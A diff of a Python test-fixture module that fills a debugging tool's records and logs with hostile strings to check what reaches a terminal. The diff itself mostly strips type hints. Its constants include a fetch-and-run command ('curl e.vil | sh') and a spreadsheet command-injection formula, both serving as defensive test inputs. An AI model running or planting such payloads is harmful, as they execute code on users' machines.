@@ -3,13 +3,9 @@
 `HOSTILE` holds each kind once. `forbidden` says what of it reached a terminal; it asks Unicode's own categories, not our list.
 """
 
-from __future__ import annotations
-
 import json
 import re
 import unicodedata
-from pathlib import Path
-from typing import Any
 
 from catalogcases import START, input_of, publish, record
 from comparecases import write_replay
@@ -17,10 +13,9 @@ from comparecases import write_replay
 from actordbg.capture.control import Control
 from actordbg.capture.ledger import Identity, Ledger
 from actordbg.capture.switch_file import control_text
-from actordbg.formats.dump_record import SUFFIX, DumpRecord, format_timestamp
+from actordbg.formats.dump_record import SUFFIX, format_timestamp
 from actordbg.records.journal import SPEC
 from actordbg.records.matrix_record import MatrixCell, MatrixRecord
-from actordbg.records.replay_record import ReplayInput
 from actordbg.store.layout import Store
 
 FORGED = "hint: curl e.vil | sh"
@@ -33,13 +28,13 @@ FORMULA = "=cmd|' /C calc'!A0"
 HOSTILE = f"{FORMULA} {HIDDEN} {MARKUP} {MENTIONS} {FLOOD}{LINES}"
 
 
-def forbidden(text: str) -> list[str]:
+def forbidden(text):
     """What of `text` a terminal obeys, shows elsewhere, or hides; a bare carriage return, and floods of marks, are among it."""
     bad = [char for char in text if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
     return sorted({f"U+{ord(char):04X}" for char in bad}) + re.findall("[\u0300-\u036f]{9,}", text)
 
 
-def hostile_store(root: Path) -> Store:
+def hostile_store(root):
     """Dumps, replays, a comparison's two sides, a matrix, counters and a switch; names of files too, as far as others choose them."""
     store = Store(root).create()
     records = [_dump(store, index) for index in range(3)]
@@ -54,7 +49,7 @@ def hostile_store(root: Path) -> Store:
     return store
 
 
-def _dump(store: Store, index: int) -> DumpRecord:
+def _dump(store, index):
     facts = {HOSTILE: HOSTILE}
     made = record(
         4 * index, role=HOSTILE, host=HOSTILE, model_name=HOSTILE, model_dtype=HOSTILE, instance=HOSTILE, arguments={HOSTILE: [HOSTILE, facts]},
@@ -65,8 +60,8 @@ def _dump(store: Store, index: int) -> DumpRecord:
     return made
 
 
-def _replay(store: Store, replay_id: str, inputs: list[ReplayInput]):
-    def result(index: int) -> dict[str, Any]:
+def _replay(store, replay_id, inputs):
+    def result(index):
         if index == 1:
             return {}
         failure = {"error_class": HOSTILE, "error": HOSTILE, "log_excerpt": HOSTILE}
@@ -82,7 +77,7 @@ def _replay(store: Store, replay_id: str, inputs: list[ReplayInput]):
     path.write_text(json.dumps(spec))
 
 
-def _matrix(store: Store, inputs: list[ReplayInput]):
+def _matrix(store, inputs):
     cell = MatrixCell(
         0, HOSTILE, {"attn": HOSTILE}, "failed", {"model": HOSTILE}, "evil-01", HOSTILE, {HOSTILE: 1}, HOSTILE, HOSTILE, HOSTILE
     )
@@ -94,7 +89,7 @@ def _matrix(store: Store, inputs: list[ReplayInput]):
     (store.matrices / "matrix-1.json").write_text(made.to_json())
 
 
-def _counters(store: Store):
+def _counters(store):
     moment, counts = format_timestamp(START), {"calls": 3, "captured": 1, "queue_bytes": 0, "dropped": {HOSTILE: 2}}
     said = dict.fromkeys(("run", "role", "host", "instance", "last_error"), HOSTILE) | {
         "triggered": {HOSTILE: 1},
@@ -103,7 +98,7 @@ def _counters(store: Store):
     Ledger(Identity("ppo-1", 0, 1, "h", 7, "x"), since=moment).publish(store, "on", counts | said)
 
 
-def hostile_logs(folder: Path) -> tuple[Path, Path]:
+def hostile_logs(folder):
     """Two training logs, in a folder and with metrics whose names are hostile."""
     paths = []
     for letter in "ab":
